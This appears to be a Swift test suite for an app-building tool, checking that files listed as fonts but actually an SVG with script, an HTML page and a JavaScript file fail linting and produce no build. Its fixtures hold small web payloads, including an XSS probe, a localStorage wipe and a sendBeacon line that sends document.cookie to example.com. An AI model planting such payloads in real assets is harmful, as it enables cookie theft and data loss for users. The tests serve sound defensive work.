import Foundation
import Testing

/// Files named as fonts in `<fonts>` are published only when they are fonts: an SVG font with
/// a script, a web page and a script (which the carousel's policy, `script-src 'self'`, would
/// run from beside it) fail lint and build, and the build writes nothing.
struct FontSafetyTests {
    static let appDef = """
        <?xml version="1.0" encoding="utf-8"?>
        <app-definition type="SAB">
          <fonts>
            <font family="font1"><font-name>Charis SIL</font-name><f format="svg">Charis.svg</f></font>
            <font family="font2"><font-name>Notes</font-name><f format="truetype">Notes.html</f></font>
            <font family="font3"><font-name>Helper</font-name><f format="truetype">helper.js</f></font>
          </fonts>
          <interface-languages><writing-systems>
            <writing-system code="en" type="interface"><font-family>font1</font-family></writing-system>
            <writing-system code="fr" type="interface"><font-family>font2</font-family></writing-system>
            <writing-system code="sg" type="interface"><font-family>font3</font-family></writing-system>
          </writing-systems></interface-languages>
          <translation-mappings default-lang="en"/>
          <onboarding-screen>
            <title type="top-title"><t>Welcome</t><t lang="fr">Bienvenue</t><t lang="sg">Bara ala</t></title>
          </onboarding-screen>
        </app-definition>
        """

    /// The project in a new temporary folder: the appDef and its fonts folder.
    static func writeProject() throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("sab-font-safety-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("fonts"), withIntermediateDirectories: true)
        try Data(appDef.utf8).write(to: folder.appendingPathComponent("app.appDef"))
        let files = [
            "Charis.svg": #"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script><defs><font id="c"/></defs></svg>"#,
            "Notes.html": "<!DOCTYPE html><html><body><script>localStorage.clear()</script></body></html>",
            "helper.js": "navigator.sendBeacon('https://example.com/', document.cookie);\n",
        ]
        for (name, text) in files { try Data(text.utf8).write(to: folder.appendingPathComponent("fonts/" + name)) }
        return folder
    }

    @Test func lintReportsEachFileThatIsNoFontAtItsEntry() throws {
        let folder = try Self.writeProject()
        defer { try? FileManager.default.removeItem(at: folder) }
        let lint = try ToolRunner.run(["lint", folder.appendingPathComponent("app.appDef").path])
        #expect(lint.status == 1)
        let errors = lint.standardOutput.split(separator: "\n").filter { $0.contains("error:") && $0.contains("[font-not-a-font]") }
        #expect(errors.count == 3, "\(lint.standardOutput)")
        for (line, column, name) in [(4, 59, "Charis.svg"), (5, 54, "Notes.html"), (6, 55, "helper.js")] {
            #expect(errors.contains { $0.contains("app.appDef:\(line):\(column): error: '\(name)'") }, "\(lint.standardOutput)")
        }
    }

    @Test func theBuildWritesNothing() throws {
        let folder = try Self.writeProject()
        defer { try? FileManager.default.removeItem(at: folder) }
        let out = folder.appendingPathComponent("out")
        let build = try ToolRunner.run(["build", folder.appendingPathComponent("app.appDef").path, "--out", out.path])
        #expect(build.status == 1)
        #expect(!FileManager.default.fileExists(atPath: out.path), "the build wrote \(out.path)")
    }
}
